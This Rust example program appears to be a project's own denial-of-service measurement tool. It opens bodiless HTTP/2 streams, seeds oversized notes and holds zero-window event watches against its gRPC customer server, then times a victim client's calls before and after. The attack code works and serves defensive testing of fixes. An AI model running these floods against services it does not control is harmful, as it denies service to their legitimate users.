//! The denial-of-service scenarios of issue 16 against a running server, for measuring a
//! build before and after its fixes (`scripts/measure-dos.sh` runs both and reads the
//! server's RSS from `/proc`). Not a test: it reports numbers, it asserts nothing.
//!
//! ```sh
//! cargo run --release --example dos -- streams ADDR READER_TOKEN VICTIM_TOKEN 600
//! cargo run --release --example dos -- seed    ADDR WRITER_TOKEN 600
//! cargo run --release --example dos -- watches ADDR READER_TOKEN VICTIM_TOKEN 20
//! ```
//!
//! - `streams`: HTTP/2 streams that send their headers and never their body (as many per
//!   connection as the server allows, new connections for the rest), then 200 GetCustomer
//!   calls of another caller: how many succeeded, their codes and latencies.
//! - `seed`: a customer with `n` notes of 10,000 characters (about 20 KB per event).
//! - `watches`: `n` watches of everything that never read (stream window 0), then the
//!   other caller's calls as above; holds them until killed.

#![allow(clippy::unwrap_used, missing_docs)]

use std::{collections::BTreeMap, time::Duration};

use bytes::Bytes;
use customer_api::pb::{self, customer_service_client::CustomerServiceClient};
use prost::Message;
use tokio::{net::TcpStream, time::Instant};

fn frame(message: &impl Message) -> Bytes {
    let body = message.encode_to_vec();
    let mut framed = vec![0_u8];
    framed.extend_from_slice(&u32::try_from(body.len()).unwrap().to_be_bytes());
    framed.extend_from_slice(&body);
    framed.into()
}

fn request(path: &str, token: &str) -> http::Request<()> {
    http::Request::post(format!("http://dos{path}"))
        .header("content-type", "application/grpc")
        .header("te", "trailers")
        .header("authorization", format!("Bearer {token}"))
        .body(())
        .unwrap()
}

async fn connection(addr: &str, window: u32) -> h2::client::SendRequest<Bytes> {
    let tcp = TcpStream::connect(addr).await.unwrap();
    let (client, connection) = h2::client::Builder::new()
        .initial_window_size(window)
        .handshake(tcp)
        .await
        .unwrap();
    tokio::spawn(connection);
    client
}

type Held = Vec<Box<dyn std::any::Any + Send>>;

/// Opens `n` bodiless GetCustomer streams; returns what keeps them open.
async fn streams(addr: &str, token: &str, n: usize) -> Held {
    let mut held: Held = Vec::new();
    let mut connections = 0;
    let mut client = connection(addr, 65_535).await;
    let mut room = 0;
    while held.len() < n {
        // A connection that takes no more streams (the server's SETTINGS): open another.
        if room == 0 {
            client = connection(addr, 65_535).await;
            client = client.ready().await.unwrap();
            tokio::time::sleep(Duration::from_millis(100)).await;
            room = client.current_max_send_streams();
            connections += 1;
        }
        room -= 1;
        let mut ready = client.clone().ready().await.unwrap();
        let path = "/customer.v1.CustomerService/GetCustomer";
        let (response, body) = ready.send_request(request(path, token), false).unwrap();
        held.push(Box::new((response, body)));
    }
    println!("streams: {n} open on {connections} connection(s)");
    held
}

/// 200 GetCustomer calls of the victim: codes and latencies.
async fn victim(addr: &str, token: &str, name: &str) {
    let channel = tonic::transport::Endpoint::from_shared(format!("http://{addr}"))
        .unwrap()
        .connect()
        .await
        .unwrap();
    let bearer: tonic::metadata::MetadataValue<_> = format!("Bearer {token}").parse().unwrap();
    let mut client =
        CustomerServiceClient::with_interceptor(channel, move |mut r: tonic::Request<()>| {
            r.metadata_mut().insert("authorization", bearer.clone());
            Ok(r)
        });
    let mut codes = BTreeMap::new();
    let mut latencies = Vec::new();
    for _ in 0..200 {
        let start = Instant::now();
        let result = client
            .get_customer(pb::GetCustomerRequest {
                name: name.into(),
                ..Default::default()
            })
            .await;
        latencies.push(start.elapsed());
        let code = result.map_or_else(|status| status.code(), |_| tonic::Code::Ok);
        *codes.entry(format!("{code:?}")).or_insert(0) += 1;
    }
    latencies.sort();
    println!(
        "victim: {codes:?}; latency p50 {:?}, p99 {:?}, max {:?}",
        latencies[100], latencies[197], latencies[199]
    );
}

/// A customer to read (the victim's target).
async fn customer(addr: &str, token: &str, n: usize) -> String {
    let channel = tonic::transport::Endpoint::from_shared(format!("http://{addr}"))
        .unwrap()
        .connect()
        .await
        .unwrap();
    let bearer: tonic::metadata::MetadataValue<_> = format!("Bearer {token}").parse().unwrap();
    let mut client =
        CustomerServiceClient::with_interceptor(channel, move |mut r: tonic::Request<()>| {
            r.metadata_mut().insert("authorization", bearer.clone());
            Ok(r)
        });
    let customer = client
        .create_customer(pb::CreateCustomerRequest {
            duplicate_policy: 0,
            customer: Some(pb::Customer {
                given_name: "Dos".into(),
                family_name: "Target".into(),
                email: format!("dos-{}@example.com", uuid::Uuid::new_v4().simple()),
                ..Default::default()
            }),
            request_id: String::new(),
        })
        .await
        .unwrap()
        .into_inner();
    let text = "é".repeat(10_000);
    for _ in 0..n {
        client
            .create_note(pb::CreateNoteRequest {
                parent: customer.name.clone(),
                note: Some(pb::Note {
                    text: text.clone(),
                    ..Default::default()
                }),
                request_id: String::new(),
            })
            .await
            .unwrap();
    }
    customer.name
}

#[tokio::main]
async fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let [scenario, addr, rest @ ..] = args.as_slice() else {
        panic!("usage: dos streams|seed|watches ADDR TOKEN [VICTIM_TOKEN] N");
    };
    match (scenario.as_str(), rest) {
        ("seed", [token, n]) => {
            let name = customer(addr, token, n.parse().unwrap()).await;
            println!("{name}");
        }
        ("streams", [reader, victim_token, name, n]) => {
            victim(addr, victim_token, name).await;
            let held = streams(addr, reader, n.parse().unwrap()).await;
            tokio::time::sleep(Duration::from_secs(2)).await;
            victim(addr, victim_token, name).await;
            drop(held);
        }
        ("watches", [reader, victim_token, name, n]) => {
            let client = connection(addr, 0).await;
            let mut held: Held = Vec::new();
            let mut refused = 0;
            for _ in 0..n.parse::<usize>().unwrap() {
                let path = "/customer.v1.CustomerService/WatchCustomerEvents";
                let mut ready = client.clone().ready().await.unwrap();
                let (response, mut body) =
                    ready.send_request(request(path, reader), false).unwrap();
                let message = pb::WatchCustomerEventsRequest {
                    parent: "customers/-".into(),
                    start_after: String::new(),
                };
                body.send_data(frame(&message), true).unwrap();
                let response = response.await.unwrap();
                if response.headers().contains_key("grpc-status") {
                    refused += 1;
                }
                held.push(Box::new(response));
            }
            println!("watches: {n} opened, {refused} refused at once");
            // Let them read what they will.
            tokio::time::sleep(Duration::from_secs(10)).await;
            victim(addr, victim_token, name).await;
            println!("holding");
            tokio::time::sleep(Duration::from_secs(3600)).await;
            drop(held);
        }
        _ => panic!("unknown scenario or arguments"),
    }
}
